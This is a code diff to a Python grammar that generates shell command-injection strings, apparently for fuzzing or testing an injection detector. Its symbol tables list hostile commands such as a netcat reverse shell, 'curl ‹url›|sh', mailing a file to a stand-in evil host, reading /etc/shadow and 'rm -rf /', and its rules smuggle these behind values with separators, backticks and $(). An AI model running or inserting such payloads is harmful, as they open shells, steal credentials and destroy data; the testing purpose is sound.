@@ -26,9 +26,11 @@ _SYMBOLS: Symbols = {
     "plain": (
         "id", "id", "whoami", "whoami", "ls", "ls -la", "ls -l /", "ls /", "pwd", "uname -a",
         "uname", "hostname", "ps", "ps aux",
-        "ps -ef", "env", "printenv", "set", "w", "who", "last", "df -h", "ifconfig", "ip addr",
-        "netstat -an", "netstat -a", "dir",
-        "date", "uptime", "mount", "history", "groups", "finger", "arp -a", "route -n", "lsof -i",
+        "ps -ef", "env", "printenv", "set | head", "w -h", "who -a", "last -n ‹d›", "df -h",
+        "ifconfig", "ip addr",
+        "netstat -an", "netstat -a", "dir c:",
+        "date +%s", "uptime", "mount -l", "history ‹n›", "groups ‹name›", "finger root", "arp -a",
+        "route -n", "lsof -i",
         "top -n 1", "echo ‹rnd›", "ls ‹id›",
         "echo ‹n›", "ls -R", "cat *", "ls ..", "ls ~", "cat .env", "cat ‹id›.php",
         "which ‹nc¦python¦perl¦gcc¦curl¦wget›", "ls -la /‹id›",
@@ -51,7 +53,7 @@ _SYMBOLS: Symbols = {
         "nc ‹ip› ‹port›", "nc -e /bin/sh ‹ip› ‹port›", "nc -l -p ‹port›", "kill -9 ‹n›", "reboot",
         "shutdown -h now", "halt", "telnet ‹ip› ‹port›",
         "chmod 777 ‹id›", "mkdir ‹id›", "cp ‹file› ‹id›.txt", "mail ‹name›@‹evil› < ‹file›",
-        "echo ‹rnd› > ‹id›.txt", "bash -i", "sh", "perl -e 'print ‹n›'",
+        "echo ‹rnd› > ‹id›.txt", "bash -i", "sh -i", "perl -e 'print ‹n›'",
         "python -c 'print(‹n›)'", "php -v", "crontab -l", "find / -name ‹id›", "find / -perm -4000",
         "useradd ‹id›", "passwd ‹name›", "su -", "sudo ‹plain›",
         "exit", "wget -O /tmp/‹abc› ‹url›", "curl -s ‹url›|sh", "tftp ‹ip›", "ftp ‹ip›", "ssh ‹ip›",
@@ -59,11 +61,17 @@ _SYMBOLS: Symbols = {
     ),
     "core": (
         "id", "id", "whoami", "ls", "ls -la", "ls -l", "pwd", "uname -a", "cat /etc/passwd",
-        "ps aux", "dir",
+        "ps aux", "dir c:",
         "hostname", "env", "ping -c ‹d› ‹ip›", "ping -c 10 127.0.0.1", "sleep ‹secs›", "rm -rf /",
         "ifconfig",
-        "cat /etc/shadow", "netstat -an", "echo ‹rnd›", "reboot", "date", "ping -i ‹n8› 127.0.0.1",
+        "cat /etc/shadow", "netstat -an", "echo ‹rnd›", "reboot", "date -u",
+        "ping -i ‹n8› 127.0.0.1",
         "ls /",
+    ),
+    # In $() and backticks a short name is a variable's, or quoted as code.
+    "long": (
+        "whoami", "ls -la", "ls /", "uname -a", "id -u", "id;‹plain›", "ifconfig", "printenv",
+        "cat ‹file›", "‹reader› ‹file›", "‹act›", "netstat -an", "ps -ef", "id|base64", "pwd;ls",
     ),
     "lead": ("", "", "‹v›", "‹v›", "‹n›", "‹rnd›", "‹id›", "‹v› ", "‹word›", "‹id›.‹txt¦jpg¦pdf›"),
     "cmd": ("‹plain›", "‹plain›", "‹reader› ‹file›", "‹reader› ‹file›", "‹act›", "‹act›"),
@@ -128,8 +136,8 @@ RULES = _GRAMMAR.rules(
         "&& ‹cmd›", "& ‹cmd› &", "|‹cmd›|", "\n‹cmd›\n",
     ),
     commonest=(
-        "‹lead›‹opt›‹core›‹e›", "‹lead›‹opt›‹core›", "‹lead›‹sep›‹core›", "‹lead›`‹core›`",
-        "‹lead›$(‹core›)",
+        "‹lead›‹opt›‹core›‹e›", "‹lead›‹opt›‹core›", "‹lead›‹sep›‹core›", "‹lead›`‹long›`",
+        "‹lead›$(‹long›)",
         "‹lead›;‹core›;", "‹lead›|‹core›|", "‹lead› && ‹core›", "‹lead›; ‹core›", "‹lead› | ‹core›",
     ),
     behind_value=(
@@ -137,8 +145,8 @@ RULES = _GRAMMAR.rules(
         "‹v›& ‹cmd›", "‹v›\n‹cmd›", "‹v›%0a‹cmd›", "‹v›;‹cmd›;‹v›", "‹v›||‹cmd›", "‹v› | ‹cmd›",
     ),
     substituted=(
-        "`‹cmd›`", "$(‹cmd›)", "‹v›`‹cmd›`", "‹v›$(‹cmd›)", "‹opt›`‹cmd›`", "‹opt›$(‹cmd›)",
-        "$(`‹cmd›`)", "`‹full›`", "$(‹full›)", '"`‹cmd›`"', "‹v›$(‹plain›)‹e›", "<(‹cmd›)",
+        "`‹long›`", "$(‹long›)", "‹v›`‹cmd›`", "‹v›$(‹cmd›)", "‹opt›`‹long›`", "‹opt›$(‹long›)",
+        "$(`‹long›`)", "`‹full›`", "$(‹full›)", '"`‹long›`"', "‹v›$(‹plain›)‹e›", "<(‹cmd›)",
         "${‹id›:=`‹plain›`}",
     ),
     full_path=(
